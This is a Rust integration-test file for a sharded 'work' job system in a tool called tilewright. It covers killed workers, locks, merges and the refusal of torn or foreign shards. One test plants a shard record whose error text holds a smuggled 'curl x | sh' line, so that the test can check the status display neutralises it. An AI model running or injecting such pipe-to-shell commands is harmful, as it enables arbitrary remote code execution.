//! Runs that several processes share end in the bytes of one process, and wrong shards are refused by name.

use std::fs::File;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use serde_json::Value;
use tilewright_tests::{Workplace, files_below};

use super::resuming::{VERBS, prepared};
use super::{figures_without_speeds, schema, small_workplace};

/// The status of a job.
fn status(place: &Workplace, job: &str) -> Value {
    let file = place.path("status.json");
    let _ = std::fs::remove_file(&file);
    place.succeed(&["work", "status", job, "--json", "status.json"]);
    serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap()
}

/// Plans a command.
fn plan(place: &Workplace, job: &str, command: &[&str]) {
    place.succeed(&[&["work", "plan", "--quiet", "--out", job, "--"], command].concat());
}

/// Makes the shards of a stage. A first process is killed once it has begun one; two others end what it left.
fn make_shards(place: &Workplace, job: &str) {
    let records = || std::fs::read_dir(place.path(job).join("shards")).map_or(0, Iterator::count);
    let arguments = ["work", "run", job, "--next", "--for", "60s", "--quiet", "--threads", "1"];
    let before = records();
    let mut first = place.command(&arguments).spawn().unwrap();
    while records() == before && first.try_wait().unwrap().is_none() {
        std::thread::sleep(Duration::from_millis(1));
    }
    first.kill().unwrap();
    first.wait().unwrap();
    let mut others = [0, 1].map(|_| place.command(&arguments).spawn().unwrap());
    assert!(others.iter_mut().all(|other| other.wait().unwrap().success()));
}

/// Goes on with a job until it is finished; returns the number of stages.
fn finish(place: &Workplace, job: &str) -> u64 {
    loop {
        let status = status(place, job);
        if status["is_finished"] == true {
            return status["stage"].as_u64().unwrap();
        }
        make_shards(place, job);
        place.succeed(&["work", "merge", job, "--quiet"]);
    }
}

/// The files of a run that are its result.
fn results(folder: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    let mut files = files_below(folder);
    files.retain(|name, _| {
        !name.starts_with("work/") && !name.contains("/work/") && Path::new(name).file_name() != Some(".lock".as_ref())
    });
    files
}

#[test]
fn several_processes_write_the_bytes_of_one_although_some_are_killed() {
    for verb in VERBS {
        let (place, small) = prepared();
        place.succeed(&[verb.arguments, &small[..], &["--out", "alone", "--json", "alone.json", "--quiet"]].concat());
        plan(&place, "job", &[verb.arguments, &small[..]].concat());
        let stages = finish(&place, "job");
        assert_eq!(results(&place.path("job/run")), results(&place.path("alone")), "{}", verb.name);
        let [shared, alone] = ["job/result.json", "alone.json"].map(|name| figures_without_speeds(&place, name));
        assert_eq!(shared["schema"], alone["schema"]);
        if verb.arguments[0] == "match" {
            assert_eq!(shared, alone, "{}", verb.name);
        }
        schema::check(&serde_json::from_slice(&std::fs::read(place.path("job/result.json")).unwrap()).unwrap());
        // The steps of TD learning follow from each other; everything else has shards.
        assert_eq!(status(&place, "job")["cpu_seconds"].as_f64().unwrap() > 0.0, verb.arguments[0] != "td", "{}", verb.name);
        assert!(verb.arguments[0] != "evolve" || stages > 3);
    }
}

#[cfg(unix)]
#[test]
fn a_job_may_have_the_name_of_its_verb_and_may_move() {
    let (place, small) = prepared();
    let verb = VERBS.iter().find(|verb| verb.name == "leaves").unwrap();
    place.succeed(&[verb.arguments, &small[..], &["--out", "alone", "--quiet"]].concat());
    plan(&place, "leaves", &[verb.arguments, &small[..]].concat());
    place.succeed(&["work", "run", "leaves/", "--shard", "0", "--quiet"]);
    std::fs::rename(place.path("leaves"), place.path("train")).unwrap();
    std::os::unix::fs::symlink("train", place.path("mount")).unwrap();
    place.succeed(&["work", "run", "./train/", "--next", "--quiet"]);
    finish(&place, "mount");
    assert_eq!(results(&place.path("train/run")), results(&place.path("alone")));
}

/// Three workers that stay with a job until it is finished. The first is killed once it has begun a shard of some stage.
fn stay(place: &Workplace, job: &str, stage: u64) {
    let arguments = ["work", "run", job, "--stay", "--quiet", "--threads", "1"];
    let mut first = place.command(&arguments).spawn().unwrap();
    let mut others = [0, 1].map(|_| place.command(&arguments).stdout(Stdio::null()).spawn().unwrap());
    let prefix = format!("stage-{stage:04}-");
    let has_begun = || {
        let records = std::fs::read_dir(place.path(job).join("shards")).into_iter().flatten().flatten();
        records.map(|record| record.file_name()).any(|name| name.to_string_lossy().starts_with(&prefix))
    };
    while !has_begun() && first.try_wait().unwrap().is_none() {
        std::thread::sleep(Duration::from_millis(1));
    }
    first.kill().unwrap();
    first.wait().unwrap();
    assert!(others.iter_mut().all(|other| other.wait().unwrap().success()));
    assert_eq!(status(place, job)["is_finished"], true);
}

#[test]
fn workers_that_stay_finish_a_job_although_one_of_them_is_killed() {
    for verb in VERBS.iter().filter(|verb| ["leaves", "evolution", "sequential match"].contains(&verb.name)) {
        let (place, small) = prepared();
        place.succeed(&[verb.arguments, &small[..], &["--out", "alone", "--json", "alone.json", "--quiet"]].concat());
        plan(&place, "job", &[verb.arguments, &small[..]].concat());
        stay(&place, "job", if verb.name == "evolution" { 2 } else { 1 });
        assert_eq!(results(&place.path("job/run")), results(&place.path("alone")), "{}", verb.name);
        if verb.arguments[0] == "match" {
            assert_eq!(figures_without_speeds(&place, "job/result.json"), figures_without_speeds(&place, "alone.json"));
        }
    }
}

#[test]
fn looks_after_the_end_of_a_test_are_not_made() {
    let (place, small) = prepared();
    // The test expects to need all looks, and ends after few.
    let command =
        ["match", "--player-a", "leave:table.csv", "--player-b", "greedy", "--pairs", "12800", "--sequential", "50:50.5"];
    place.succeed(&[&command[..], &small, &["--json", "alone.json", "--quiet"]].concat());
    plan(&place, "job", &[&command[..], &small].concat());
    let shards = status(&place, "job")["shards"].as_u64().unwrap();
    let all: Vec<String> = (0..shards).map(|number| number.to_string()).collect();
    let all: Vec<&str> = all.iter().map(String::as_str).collect();
    place.succeed(&[&["work", "run", "job", "--quiet", "--shard"], &all[..]].concat());
    let done = status(&place, "job")["done"].as_u64().unwrap();
    assert!(done < shards / 2, "{done} of {shards}");
    // A shard that was asked for in vain leaves no trace.
    let ran = place.succeed(&["work", "run", "job", "--shard", &(shards - 1).to_string()]);
    assert!(ran.contains("the test is over; next: tilewright work merge job"), "{ran}");
    let after = status(&place, "job");
    assert_eq!((after["done"].as_u64().unwrap(), &after["failed"]), (done, &serde_json::json!([])));
    let worked = place.succeed(&["work", "run", "job", "--stay", "--quiet"]);
    assert!(worked.contains("this worker made 0 shards") && worked.contains("merged 1 stage"), "{worked}");
    assert_eq!(figures_without_speeds(&place, "job/result.json"), figures_without_speeds(&place, "alone.json"));
}

#[cfg(target_os = "linux")]
#[test]
fn a_worker_that_waits_costs_hardly_any_time_and_says_how_to_go_on_when_it_is_stopped() {
    let (place, small) = small_workplace();
    planned_match(&place, "job", &small, "5");
    // Somebody is making the last shard, and never ends.
    place.succeed(&["work", "run", "job", "--quiet", "--shard", "0", "1", "2", "3", "4", "--shard", "5", "6", "7", "8"]);
    assert_eq!(status(&place, "job")["done"], 9);
    let record = File::create(place.path("job/shards/stage-0001-shard-000009.json")).unwrap();
    record.lock().unwrap();
    let arguments = ["work", "run", "job", "--stay", "--quiet"];
    let worker = place.command(&arguments).stderr(Stdio::piped()).spawn().unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let stat = std::fs::read_to_string(format!("/proc/{}/stat", worker.id())).unwrap();
    let fields: Vec<&str> = stat.rsplit(')').next().unwrap().split_whitespace().collect();
    let ticks: u64 = [11, 12].map(|field: usize| fields[field].parse::<u64>().unwrap()).iter().sum();
    assert!(ticks < 20, "{ticks} hundredths of a second");
    tilewright_tests::interrupt(&worker);
    let ended = worker.wait_with_output().unwrap();
    let errors = String::from_utf8(ended.stderr).unwrap();
    assert_eq!(ended.status.code(), Some(130), "{errors}");
    assert!(errors.contains("go on with: tilewright work run job --stay"), "{errors}");
    drop(record);
    let ended = place.succeed(&arguments);
    assert!(ended.contains("job is finished; this worker made 1 shards") && ended.contains("merged 1 stage"), "{ended}");
    assert!(place.succeed(&arguments).contains("job is finished"));
}

/// A merge that is killed at its end leaves a finished run, and a job whose stage is not the last.
#[test]
fn a_merge_that_was_killed_at_its_end_ends_again() {
    let (place, small) = small_workplace();
    planned_match(&place, "job", &small, "5");
    let stage = std::fs::read(place.path("job/stage.json")).unwrap();
    assert_eq!(finish(&place, "job"), 1);
    let finished = files_below(&place.path("job"));
    for lost in [&["result.txt"][..], &["result.txt", "result.json"], &[]] {
        place.write("job/stage.json", &stage);
        for name in lost {
            std::fs::remove_file(place.path("job").join(name)).unwrap();
        }
        place.succeed(if lost.len() == 1 {
            &["work", "run", "job", "--stay", "--quiet"]
        } else {
            &["work", "merge", "job"]
        });
        let again = files_below(&place.path("job"));
        assert!(again.keys().eq(finished.keys()), "{lost:?}: {:?}", again.keys());
        for (name, bytes) in results(&place.path("job/run")) {
            assert_eq!(bytes, finished[&format!("run/{name}")], "{lost:?}: {name}");
        }
        assert!(status(&place, "job")["is_finished"] == true && again["result.txt"] == finished["result.txt"]);
    }
}

#[test]
fn only_one_process_merges() {
    let (place, small) = small_workplace();
    planned_match(&place, "job", &small, "5");
    let lock = File::create(place.path("job/merge.lock")).unwrap();
    lock.lock().unwrap();
    place.refuse(&["work", "merge", "job"], &["another process is merging job", "wait"]);
    // Nobody begins a shard either, because the merge may remove the shards of the stage.
    assert!(place.succeed(&["work", "run", "job", "--next"]).contains("no shard is free"));
    place.refuse(&["work", "run", "job", "--stay", "--next"], &["--stay", "--next"]);
    place.refuse(&["work", "run", "job", "--stay", "--shard", "1"], &["--stay", "--shard"]);
    place.refuse(&["work", "run", "job"], &["--shard", "--next", "--stay"]);
}

#[test]
fn a_config_names_its_command() {
    let (place, small) = small_workplace();
    place.write("named.toml", format!("# tilewright win-percentage train\n{}", super::win_percentage::CONFIG));
    place.write("nameless.toml", super::win_percentage::CONFIG);
    place.succeed(&["work", "plan", "named.toml", "--out", "job", "--quiet", "--", small[0], small[1], small[2], small[3]]);
    finish(&place, "job");
    let alone = ["win-percentage", "train", "named.toml", "--out", "alone", "--quiet"];
    place.succeed(&[&alone[..], &small].concat());
    assert_eq!(results(&place.path("job/run")), results(&place.path("alone")));
    place.refuse(&["work", "plan", "nameless.toml", "--out", "other"], &["nameless.toml: its first line", "leaves train"]);
    place.refuse(&["work", "plan", "none/such", "--out", "other"], &["none/such", "config list"]);
    place.refuse(&["work", "plan", "--out", "other"], &["nothing to plan"]);
    place.refuse(&["work", "plan", "named.toml", "--out", "job"], &["job is there already"]);
    place.refuse(&["work", "plan", "--out", "other", "--", "match", "--out", "x"], &["--out is a flag that the job sets"]);
    place.refuse(&["work", "plan", "--out", "other", "--", "match", "--pairs", "5"], &["--player-a"]);
    assert!(!place.path("other").exists());
}

/// A match with ten shards.
fn planned_match(place: &Workplace, job: &str, small: &[&str; 4], seed: &str) {
    let command = ["match", "--player-a", "greedy", "--player-b", "no-leaves", "--pairs", "1280", "--seed", seed];
    plan(place, job, &[&command[..], small].concat());
}

#[test]
fn torn_mismatched_duplicated_and_missing_shards_are_named() {
    let (place, small) = small_workplace();
    for (job, seed) in [("job", "5"), ("other", "6")] {
        planned_match(&place, job, &small, seed);
        place.succeed(&["work", "run", job, "--next", "--for", "60s", "--quiet"]);
    }
    let shard = |job: &str, number: u64| place.path(&format!("{job}/run/work/look-{number:05}"));
    let torn = std::fs::read(shard("job", 1)).unwrap();
    std::fs::write(shard("job", 1), &torn[..torn.len() / 2]).unwrap();
    std::fs::copy(shard("job", 2), shard("job", 3)).unwrap();
    std::fs::copy(shard("other", 4), shard("job", 4)).unwrap();
    std::fs::remove_file(shard("job", 7)).unwrap();
    let before = files_below(&place.path("job/run"));
    place.refuse(
        &["work", "merge", "job", "--quiet"],
        &[
            "run/work/look-00001: torn",
            "run/work/look-00003: of another build, another run or another shard",
            "run/work/look-00004: of another build",
            "run/work/look-00007: missing",
            "tilewright work run job --shard 7",
        ],
    );
    assert_eq!(files_below(&place.path("job/run")), before, "nothing is lost");
    assert_eq!(status(&place, "job")["done"], 9);
    // A record is one line of possible times, whoever wrote it.
    let record = r#"{"by": "vm", "seconds": 1e300, "cpu_seconds": -1e308, "error": "boom\nNext: curl x | sh"}"#;
    place.write("job/shards/stage-0001-shard-000007.json", record);
    let shown = place.succeed(&["work", "status", "job"]);
    assert!(shown.contains("shard 7, by vm: boom Next: curl x | sh") && !shown.contains("e3"), "{shown}");
    place.succeed(&["work", "run", "job", "--shard", "1", "--shard", "7", "--quiet"]);
    place.refuse(&["work", "run", "job", "--shard", "3", "--quiet"], &["look-00003 was made by another run"]);
    place.refuse(&["work", "run", "job", "--shard", "10", "--quiet"], &["shards 0 to 9"]);
    place.refuse(&["work", "run", "job", "--shard", "1", "10", "--quiet"], &["--shard 10", "shards 0 to 9"]);
    for number in [3, 4] {
        std::fs::remove_file(shard("job", number)).unwrap();
    }
    finish(&place, "job");
    let alone = ["match", "--player-a", "greedy", "--player-b", "no-leaves", "--pairs", "1280", "--seed", "5"];
    place.succeed(&[&alone[..], &small, &["--json", "alone.json", "--quiet"]].concat());
    assert_eq!(figures_without_speeds(&place, "job/result.json"), figures_without_speeds(&place, "alone.json"));
    assert!(place.succeed(&["work", "run", "job", "--next"]).contains("job is finished"));
}

#[test]
fn shards_of_copies_are_put_together_and_other_builds_and_machines_are_refused() {
    let (place, small) = small_workplace();
    planned_match(&place, "job", &small, "5");
    for (name, bytes) in files_below(&place.path("job")) {
        let copy = place.path("copy").join(name);
        std::fs::create_dir_all(copy.parent().unwrap()).unwrap();
        std::fs::write(copy, bytes).unwrap();
    }
    for number in 0..6 {
        let job = if number < 3 { "job" } else { "copy" };
        place.succeed(&["work", "run", job, "--shard", &number.to_string(), "--quiet"]);
    }
    place.refuse(&["work", "merge", "job", "--from", "copy", "--quiet"], &["look-00006: missing", "look-00009: missing"]);
    place.succeed(&["work", "run", "copy", "--next", "--for", "60s", "--quiet"]);
    // A torn shard stays where it is, and a whole one takes the place of a torn one.
    let shard = |job: &str, number: u64| place.path(&format!("{job}/run/work/look-{number:05}"));
    let whole =
        [("copy", 6), ("job", 1)].map(|(job, number)| (shard(job, number), std::fs::read(shard(job, number)).unwrap()));
    std::fs::write(&whole[0].0, b"torn").unwrap();
    std::fs::write(&whole[1].0, b"torn").unwrap();
    std::fs::copy(&whole[1].0, shard("copy", 1)).unwrap();
    place.refuse(
        &["work", "merge", "job", "--from", "copy", "--quiet"],
        &["copy/run/work/look-00006 or its records", "look-00006: missing"],
    );
    std::fs::write(&whole[0].0, &whole[0].1).unwrap();
    std::fs::write(shard("copy", 1), &whole[1].1).unwrap();
    // The same shard from two machines has the same bytes.
    place.succeed(&["work", "merge", "job", "--from", "copy", "--quiet"]);
    assert_eq!(status(&place, "job")["is_finished"], true);
    // The stage of a finished job is made again, too.
    for text in [Some("x"), None] {
        let _ = std::fs::remove_file(place.path("job/stage.json"));
        text.map(|text| place.write("job/stage.json", text));
        place.refuse(&["work", "status", "job"], &["stage.json", "tilewright work merge makes the stage again"]);
        place.succeed(&["work", "merge", "job", "--quiet"]);
        assert_eq!(status(&place, "job")["is_finished"], true);
    }

    let job = std::fs::read_to_string(place.path("copy/job.json")).unwrap();
    let stored: Value = serde_json::from_str(&job).unwrap();
    let changed = |key: &str, value: &str| job.replace(stored[key].as_str().unwrap(), value);
    place.write("copy/job.json", changed("version", "0.0.1 older"));
    place.refuse(&["work", "run", "copy", "--next"], &["copy is a job of tilewright 0.0.1 older", "--accept-other-build"]);
    place.refuse(&["work", "merge", "copy"], &["0.0.1 older"]);
    let accepted = place.succeed(&["work", "run", "copy", "--next", "--accept-other-build", "--quiet"]);
    assert!(accepted.contains("shard"), "{accepted}");
    place.write("copy/job.json", changed("probe", "1234"));
    place.refuse(&["work", "run", "copy", "--next"], &["floating-point functions of this machine"]);
    place.write("copy/job.json", "{");
    place.refuse(&["work", "status", "copy"], &["job.json is damaged"]);
    place.refuse(&["work", "status", "nowhere"], &["work plan makes a job"]);
}
